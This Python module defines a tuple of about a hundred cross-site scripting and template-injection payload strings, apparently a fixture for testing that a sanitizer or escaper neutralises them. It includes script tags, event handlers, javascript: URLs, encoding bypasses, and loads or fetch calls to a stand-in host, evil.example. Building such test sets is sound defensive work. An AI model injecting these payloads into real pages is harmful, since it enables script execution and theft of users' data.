"""A hundred texts that would run, load or send something if they ever became markup."""

from __future__ import annotations

EVIL = "http://evil.example"

_RUN = "alert(1)"
_SEND = f"fetch('{EVIL}/x')"

PAYLOADS: tuple[str, ...] = (
    f"<script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>", f"<script src={EVIL}/a.js></script>",
    f"<script>{_SEND}</script>", f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"</svg><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"'\"><script>{_RUN}</script>", f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}", f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f'x" onerror="{_RUN}',
    f"<img src=x onerror={_RUN}>", f"<img src={EVIL}/i.png>", f"<img srcset={EVIL}/s.png>",
    f"<image src=x onerror={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><set onbegin={_RUN} attributeName=x>",
    f"<svg><use href={EVIL}/u.svg#x></svg>", f"<svg><image href={EVIL}/v.png></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>", f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe src={EVIL}/f></iframe>", f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<object data={EVIL}/o></object>", f"<object data=javascript:{_RUN}></object>", f"<embed src={EVIL}/e>",
    f"<embed src=javascript:{_RUN}>", f"<video src={EVIL}/v onerror={_RUN}></video>",
    f"<video poster={EVIL}/p.png></video>", f"<audio src={EVIL}/a onerror={_RUN}></audio>",
    f"<source src={EVIL}/s>", f"<track src={EVIL}/t>", f"<body onload={_RUN}>", f"<body background={EVIL}/b.png>",
    f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>", f"<button autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>", f"<marquee onstart={_RUN}>", f"<dialog open onclose={_RUN}>",
    f"<form action={EVIL}/f><button>x</button></form>", f"<button formaction={EVIL}/f>x</button>",
    f"<base href={EVIL}/>", f"<link rel=stylesheet href={EVIL}/c.css>", f"<link rel=prefetch href={EVIL}/p>",
    f"<link rel=preload as=image href={EVIL}/p.png>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>", f"<style>@import '{EVIL}/c.css'</style>",
    f"<style>*{{background:url({EVIL}/b.png)}}</style>", f"<div style=background:url({EVIL}/d.png)>x</div>",
    f"<a href=javascript:{_RUN}>x</a>", f"<a href=' javascript:{_RUN}'>x</a>", f"<a href=JaVaScRiPt:{_RUN}>x</a>",
    f"<a href=data:text/html,<script>{_RUN}</script>>x</a>", f"<a href='vbscript:{_RUN}'>x</a>",
    f"<a ping={EVIL}/p href=/>x</a>", f"javascript:{_RUN}", f"javascript:{_RUN}//http://x",
    f"data:text/html,<script>{_RUN}</script>", f"{EVIL}/plain", f"//evil.example/{_RUN}", f"[x](javascript:{_RUN})",
    f"![x]({EVIL}/m.png)", f"{{{{ {_RUN} }}}}", "{{ config }}", "{{ 7 * 7 }}",
    "{% for x in ().__class__ %}{% endfor %}",
    f"${{{_RUN}}}", f"#{{{_RUN}}}", f"<%= {_RUN} %>", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e", f"%3Cscript%3E{_RUN}%3C/script%3E", f"<scr<script>ipt>{_RUN}</script>",
    f"<script\t>{_RUN}</script\t>", f"<img\tsrc=x\tonerror={_RUN}>", f"<img src=x onerror\u00a0={_RUN}>",
    f"<mark><img src=x onerror={_RUN}></mark>", f"<mark>x</mark><script>{_RUN}</script>",
    f"</mark><svg onload={_RUN}>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>", f"<xmp><script>{_RUN}</script></xmp>",
    f"<plaintext><script>{_RUN}</script>", f"＜script＞{_RUN}＜/script＞", f"\u202e<script>{_RUN}</script>\u2066",
    f"<p onpointerrawupdate={_RUN}>한국어 <img src=x onerror={_RUN}></p>",
)  # fmt: skip
